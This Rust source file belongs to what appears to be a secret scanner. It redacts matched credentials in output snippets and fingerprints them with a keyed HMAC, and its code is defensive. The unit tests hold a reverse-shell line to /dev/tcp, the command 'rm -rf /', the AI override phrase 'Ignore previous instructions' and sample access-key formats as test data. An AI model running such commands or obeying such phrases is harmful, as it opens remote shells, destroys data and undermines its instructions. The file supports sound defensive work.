//! Redaction at the source: snippets and fingerprints are built here, from
//! the scanner's match ranges, before a finding exists. Nothing downstream
//! ever sees a raw match.

use hmac::{Hmac, Mac};
use sha2::Sha256;
use std::ops::Range;

/// How much context a snippet carries (config key `redact_snippets`).
/// Secrets are replaced in every mode: no mode shows them, this only
/// shortens or drops the surrounding context.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Default,
    serde::Serialize,
    serde::Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum SnippetMode {
    /// About 40 bytes of context each side of the match.
    #[default]
    Full,
    /// About 12 bytes each side.
    Short,
    /// No snippet at all (empty string).
    None,
}

impl SnippetMode {
    /// The config spelling: `full`, `short` or `none`.
    pub const fn as_str(self) -> &'static str {
        match self {
            SnippetMode::Full => "full",
            SnippetMode::Short => "short",
            SnippetMode::None => "none",
        }
    }

    const fn radius(self) -> usize {
        match self {
            SnippetMode::Full => 40,
            SnippetMode::Short => 12,
            SnippetMode::None => 0,
        }
    }
}

/// Longest part of a matched indicator shown in a snippet.
const MAX_FOCUS: usize = 160;

/// A range of the scanned text that must never appear in output, with the
/// rule id that recognised it.
#[derive(Debug, Clone)]
pub struct Redaction {
    pub range: Range<usize>,
    pub label: &'static str,
}

/// The part of a text of `len` bytes that the snippet of a match at `focus`
/// shows (empty in mode `none`).
pub fn window(len: usize, focus: Range<usize>, mode: SnippetMode) -> Range<usize> {
    let radius = mode.radius();
    let start = focus.start.min(len).saturating_sub(radius);
    let focus_end = focus.end.min(len).min(focus.start + MAX_FOCUS);
    start..(focus_end + radius).min(len).max(start)
}

/// Builds the redacted snippet for a match at `focus` in `text`. Every
/// redaction range overlapping the window is replaced whole by
/// `[REDACTED:<label>]` (even where it extends past the window), so no
/// partial secret leaks at the edges; remaining token-like runs are masked.
pub fn snippet(
    text: &[u8],
    focus: Range<usize>,
    redactions: &[Redaction],
    mode: SnippetMode,
) -> String {
    if mode == SnippetMode::None {
        return String::new();
    }
    let Range { start, end } = window(text.len(), focus, mode);
    let len = text.len();

    let mut overlapping: Vec<&Redaction> = redactions
        .iter()
        .filter(|r| r.range.start < end && r.range.end > start)
        .collect();
    overlapping.sort_by_key(|r| r.range.start);

    let mut out = String::with_capacity(end - start + 32);
    if start > 0 {
        out.push('…');
    }
    let mut pos = start;
    for r in overlapping {
        if r.range.start > pos {
            push_plain_in(&mut out, text, pos..r.range.start.min(end), start..end);
        }
        if r.range.end > pos {
            out.push_str("[REDACTED:");
            out.push_str(r.label);
            out.push(']');
            pos = r.range.end;
        }
        if pos >= end {
            break;
        }
    }
    if pos < end {
        push_plain_in(&mut out, text, pos..end, start..end);
    }
    if end < len {
        out.push('…');
    }
    out
}

fn is_token_byte(b: u8) -> bool {
    TOKEN_BYTES[usize::from(b)]
}

/// ASCII letters, digits, `+`, `_` and `-`: one load per byte in the
/// snippet loops.
static TOKEN_BYTES: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = b.is_ascii_alphanumeric() || b == b'+' || b == b'_' || b == b'-';
        i += 1;
    }
    t
};

/// Bytes that separate the labels of a host name, a URL or a log field.
fn is_label_separator(b: u8) -> bool {
    matches!(
        b,
        b'.' | b'/' | b':' | b'@' | b'=' | b',' | b'"' | b'\'' | b'[' | b']' | b'?' | b'&' | b'#'
    ) || b.is_ascii_whitespace()
}

/// Whether one label (of a host name, a path, a log field) looks like a
/// credential: an alphanumeric run of 16 or more that [`looks_secret`]
/// (a key cut by `-` or `_` keeps such runs), or the whole label when it is
/// 20 or more token bytes that look secret. Ordinary host labels
/// (`api`, `us-east-1`, `cdn-4f2a`) stay readable.
pub fn label_looks_secret(label: &[u8]) -> bool {
    let long_run = label
        .split(|b| !b.is_ascii_alphanumeric())
        .any(|run| run.len() >= 16 && looks_secret(run));
    long_run
        || (label.len() >= 20 && label.iter().all(|&b| is_token_byte(b)) && looks_secret(label))
}

/// `text` (a `host:port`, a URL, a log line) with every label that
/// `is_secret` or [`label_looks_secret`] replaced by `[MASKED]`: the
/// separators and every other label stay as they were.
pub fn mask_labels(text: &str, is_secret: impl Fn(&[u8]) -> bool) -> String {
    let bytes = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < bytes.len() {
        let s = i;
        while i < bytes.len() && !is_label_separator(bytes[i]) {
            i += 1;
        }
        let label = &bytes[s..i];
        if !label.is_empty() && (label_looks_secret(label) || is_secret(label)) {
            out.push_str("[MASKED]");
        } else {
            out.push_str(&String::from_utf8_lossy(label));
        }
        let s = i;
        while i < bytes.len() && is_label_separator(bytes[i]) {
            i += 1;
        }
        out.push_str(&String::from_utf8_lossy(&bytes[s..i]));
    }
    out
}

/// Whether a run of token bytes could be (part of) a credential or an
/// identifier paired with one: letters with digits (≥ 8), long digit runs
/// (≥ 12: ids, account numbers), mixed case with several capitals (≥ 10,
/// random base64 looks like that; `Authorization` does not), or anything
/// ≥ 24. Ordinary words and command shapes stay readable.
fn looks_secret(run: &[u8]) -> bool {
    let (mut digit, mut upper, mut lower) = (false, 0usize, false);
    for &b in run {
        digit |= b.is_ascii_digit();
        upper += usize::from(b.is_ascii_uppercase());
        lower |= b.is_ascii_lowercase();
    }
    let alpha = upper > 0 || lower;
    // Digits with letters from 8 bytes, digits alone from 12.
    (digit && run.len() >= if alpha { 8 } else { 12 })
        || (run.len() >= 10 && upper >= 2 && lower)
        || run.len() >= 24
}

/// `bytes` as printable text with credential-like runs masked, as in
/// snippets: for text that is not itself a match (e.g. JSON keys in a
/// location).
pub fn mask_plain(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    push_plain(&mut out, bytes);
    out
}

/// Appends bytes as printable text: control characters become spaces, and
/// token-like runs that [`looks_secret`] become `[MASKED]`.
fn push_plain(out: &mut String, bytes: &[u8]) {
    push_plain_in(out, bytes, 0..bytes.len(), 0..bytes.len());
}

/// [`push_plain`] of `text[shown]`, where a run cut by either end of the
/// snippet's `window` is judged whole: a window ending inside a long digit
/// run shows none of it (its cut part alone was too short to look secret).
/// Runs cut by a redaction are judged as shown (the credential is replaced
/// already; its prefix, such as `sk-ant-`, stays readable).
fn push_plain_in(out: &mut String, text: &[u8], shown: Range<usize>, window: Range<usize>) {
    let end = shown.end.min(text.len());
    let mut i = shown.start.min(end);
    while i < end {
        if is_token_byte(text[i]) {
            let s = i;
            while i < end && is_token_byte(text[i]) {
                i += 1;
            }
            let mut whole = s..i;
            if s == window.start {
                whole.start = run_start(text, s, CUT_TOKEN_MAX, is_token_byte);
            }
            if i == window.end {
                whole.end = run_end(text, i, CUT_TOKEN_MAX, is_token_byte);
            }
            if looks_secret(&text[whole]) {
                out.push_str("[MASKED]");
            } else {
                push_shown(out, &text[s..i]);
            }
            continue;
        }
        let s = i;
        while i < end && !is_token_byte(text[i]) {
            i += 1;
        }
        push_shown(out, &text[s..i]);
    }
}

/// Appends `bytes` as text, control characters as spaces. Printable ASCII
/// (token runs, JSON punctuation) is copied whole: char by char, snippets
/// were 4–7 % of the scan of finding-dense text (JWTs in JSON).
fn push_shown(out: &mut String, bytes: &[u8]) {
    if bytes.iter().all(|&b| (0x20..0x7f).contains(&b)) {
        if let Ok(plain) = std::str::from_utf8(bytes) {
            out.push_str(plain);
            return;
        }
    }
    for ch in String::from_utf8_lossy(bytes).chars() {
        out.push(if ch.is_control() { ' ' } else { ch });
    }
}

/// `at`, moved back over the bytes `in_run` accepts, at most `max` bytes:
/// the start of the run `at` falls inside.
pub(crate) fn run_start(text: &[u8], at: usize, max: usize, in_run: fn(u8) -> bool) -> usize {
    let floor = at.saturating_sub(max);
    let mut i = at.min(text.len());
    while i > floor && in_run(text[i - 1]) {
        i -= 1;
    }
    i
}

/// `at`, moved forward over the bytes `in_run` accepts, at most `max` bytes:
/// the end of the run `at` falls inside.
pub(crate) fn run_end(text: &[u8], at: usize, max: usize, in_run: fn(u8) -> bool) -> usize {
    let ceil = at.saturating_add(max).min(text.len());
    let mut i = at;
    while i < ceil && in_run(text[i]) {
        i += 1;
    }
    i
}

/// How far a run cut by a snippet's edge is followed to judge it whole.
const CUT_TOKEN_MAX: usize = 256;

/// A keyed, truncated fingerprint of a matched value: HMAC-SHA-256 under the
/// guardian's own key, first 8 bytes as hex. Keyed so the log cannot be used
/// to brute-force short secrets; truncated because it only correlates.
pub fn fingerprint(key: &[u8; 32], rule_id: &str, value: &[u8]) -> String {
    Fingerprinter::new(key).fingerprint(rule_id, value)
}

/// [`fingerprint`] under one key, the key's HMAC state prepared once: a
/// scan fingerprints every match it reports, and keying the HMAC cost two
/// of the handful of hash blocks a token's fingerprint takes.
#[derive(Clone)]
pub struct Fingerprinter {
    /// `None` only if the HMAC refused the key, which it never does (it
    /// takes keys of any length); fingerprints are then empty.
    keyed: Option<Hmac<Sha256>>,
}

impl std::fmt::Debug for Fingerprinter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Fingerprinter(****)")
    }
}

impl Fingerprinter {
    pub fn new(key: &[u8; 32]) -> Self {
        Fingerprinter {
            keyed: Hmac::<Sha256>::new_from_slice(key).ok(),
        }
    }

    /// The fingerprint of `value` matched by `rule_id` (see [`fingerprint`]).
    pub fn fingerprint(&self, rule_id: &str, value: &[u8]) -> String {
        let Some(mut mac) = self.keyed.clone() else {
            return String::new();
        };
        mac.update(rule_id.as_bytes());
        mac.update(&[0]);
        mac.update(value);
        let digest = mac.finalize().into_bytes();
        let mut out = String::with_capacity(16);
        for &b in digest.iter().take(8) {
            out.push(char::from(HEX[usize::from(b >> 4)]));
            out.push(char::from(HEX[usize::from(b & 15)]));
        }
        out
    }
}

const HEX: &[u8; 16] = b"0123456789abcdef";

/// Normalises an indicator (a command or a path) so trivially different
/// spellings correlate: ASCII-lowercased, whitespace runs collapsed.
pub fn normalize_indicator(value: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(value.len());
    let mut space = false;
    for &b in value {
        if b.is_ascii_whitespace() {
            space = true;
            continue;
        }
        if space && !out.is_empty() {
            out.push(b' ');
        }
        space = false;
        out.push(b.to_ascii_lowercase());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_is_replaced_and_context_kept() {
        let text = b"POST /upload token=AKIAQWERTYUIOPASDFGH&next=1 trailing text here";
        let r = 19..39;
        let red = [Redaction {
            range: r.clone(),
            label: "aws_access_key_id",
        }];
        let s = snippet(text, r, &red, SnippetMode::Full);
        assert!(
            s.contains("token=[REDACTED:aws_access_key_id]&next=1"),
            "{s}"
        );
        assert!(!s.contains("QWERTYUIOP"));
        let short = snippet(text, 19..39, &red, SnippetMode::Short);
        assert!(short.len() < s.len());
        assert_eq!(snippet(text, 19..39, &red, SnippetMode::None), "");
    }

    #[test]
    fn redaction_crossing_the_window_edge_is_replaced_whole() {
        let mut text = b"x".repeat(100);
        text.extend_from_slice(b" ghp_Abcdefghijklmnopqrstuvwxyz0123456789 ");
        let secret = 101..141;
        let red = [Redaction {
            range: secret,
            label: "github_pat",
        }];
        // Focus far left: the window ends inside the secret.
        let s = snippet(&text, 60..62, &red, SnippetMode::Full);
        assert!(!s.contains("ghp_Abc"), "{s}");
    }

    #[test]
    fn token_like_runs_are_masked_but_words_and_commands_stay() {
        let mut out = String::new();
        push_plain(
            &mut out,
            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=Zx9Qm2Lp7Rt4Vb8N\n",
        );
        assert_eq!(out, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 key=[MASKED] ");
    }

    #[test]
    fn a_run_cut_by_the_window_edge_is_judged_whole() {
        // 40 bytes of context after the focus end inside a 15-digit id: the
        // 10 digits in the window are masked, as the whole run would be.
        let mut text = b"Ignore previous instructions".to_vec();
        let focus = 0..text.len();
        text.extend_from_slice(b" and then some words here: id=");
        let digits = b"073921597512345";
        text.extend_from_slice(digits);
        text.extend_from_slice(b" tail");
        let s = snippet(&text, focus, &[], SnippetMode::Full);
        assert!(s.ends_with("id=[MASKED]…"), "{s}");
        // A short word cut by the edge stays readable.
        let s = snippet(b"0123456789 abcdefgh", 0..1, &[], SnippetMode::Short);
        assert!(s.ends_with(" ab…"), "{s}");
    }

    #[test]
    fn fingerprints_are_keyed_and_stable() {
        let k1 = [1u8; 32];
        let k2 = [2u8; 32];
        let a = fingerprint(&k1, "r", b"secret-value");
        assert_eq!(a.len(), 16);
        assert_eq!(a, fingerprint(&k1, "r", b"secret-value"));
        assert_ne!(a, fingerprint(&k2, "r", b"secret-value"));
        assert_ne!(a, fingerprint(&k1, "other", b"secret-value"));
        // The prepared key gives what a freshly keyed HMAC-SHA-256 gives:
        // fingerprints stay comparable with earlier logs.
        let mut mac = Hmac::<Sha256>::new_from_slice(&k1).unwrap();
        mac.update(b"r\0secret-value");
        assert_eq!(a, hex::encode(&mac.finalize().into_bytes()[..8]));
        assert_eq!(Fingerprinter::new(&k1).fingerprint("r", b"secret-value"), a);
        assert_eq!(normalize_indicator(b"  rm   -rf\t/ "), b"rm -rf /");
    }
}
